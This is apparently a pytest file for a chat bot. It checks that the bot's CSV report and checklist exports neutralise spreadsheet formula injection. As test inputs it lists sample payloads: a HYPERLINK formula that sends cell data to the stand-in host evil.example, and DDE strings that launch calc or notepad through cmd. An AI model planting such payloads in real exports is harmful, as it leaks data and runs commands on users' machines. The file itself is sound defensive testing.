"""CSV formula injection: every CSV draaibot writes (the /rapport file, checklist exports) opens
in a spreadsheet as plain text, whatever a user typed."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot import csvsafe
from bot.actions import ChecklistOp, ChecklistTick, NewChecklist
from bot.assistant import Assistant, Chat
from bot.knowledge import KnowledgeBase
from bot.replies import Outcome
from bot.store import Store
from tests.conftest import KNOWLEDGE

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "@sum(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def read_csv(outcome: Outcome) -> list[list[str]]:
    (attachment,) = [
        r.attachment
        for r in outcome.replies
        if r.attachment is not None and r.attachment.filename.endswith(".csv")
    ]
    text = attachment.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def assert_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS), cell


@given(st.lists(st.text(max_size=20), max_size=5))
def test_any_row_reads_back_safe_and_whole(row: list[str]) -> None:
    buffer = io.StringIO(newline="")
    csvsafe.writer(buffer).writerow(row)
    (back,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline=""), delimiter=";"))
    assert_safe([back])
    # what was changed is the original behind one quote
    assert [c.removeprefix("'") if c != r else c for c, r in zip(back, row, strict=True)] == row


def test_numbers_stay_numbers() -> None:
    buffer = io.StringIO()
    csvsafe.writer(buffer).writerow([-3, 2.5, "-3"])
    assert buffer.getvalue().strip() == "-3;2.5;'-3"


@pytest.fixture(scope="module")
def kb() -> KnowledgeBase:
    return KnowledgeBase(KNOWLEDGE)


def test_rapport_csv_neutralises_user_text(kb: KnowledgeBase, tmp_path: Path) -> None:
    store = Store(tmp_path / "r.db")
    assistant = Assistant(kb, store)
    for n, text in enumerate(FORMULAS):
        store.answers.save_answer(n, "private", text, False, [], [], 0)  # unanswered questions
        answer_id = store.answers.save_answer(n, "private", text, True, ["x"], ["Bron"], 1)
        feedback_id = store.answers.add_feedback(answer_id, n, -1)
        store.answers.add_missing(feedback_id, text)  # the 👎 comment
    rows = read_csv(assistant.staff.report())
    store.close()
    assert_safe(rows)
    cells = {cell for row in rows for cell in row}
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells


def test_checklist_export_neutralises_names_and_remarks(kb: KnowledgeBase, tmp_path: Path) -> None:
    store = Store(tmp_path / "c.db")
    assistant = Assistant(kb, store)
    chat = Chat(-100, "group", 7, user_name="=cmd|' /C calc'!A0")
    assistant.press(chat, NewChecklist("inventaris-kwg"))
    (checklist,) = [r.id for r in store.checklists.checklists(chat.id)]
    assistant.press(chat, ChecklistTick(checklist, 1, "present", 0))
    assistant.checklists.remark(checklist, (7, "@Anna"), "1: +31 6 1234 5678 bellen")
    rows = read_csv(assistant.press(chat, ChecklistOp(checklist, "export")))
    store.close()
    assert_safe(rows)
    first = rows[1]
    assert "'=cmd|' /C calc'!A0" in first and "'+31 6 1234 5678 bellen" in first
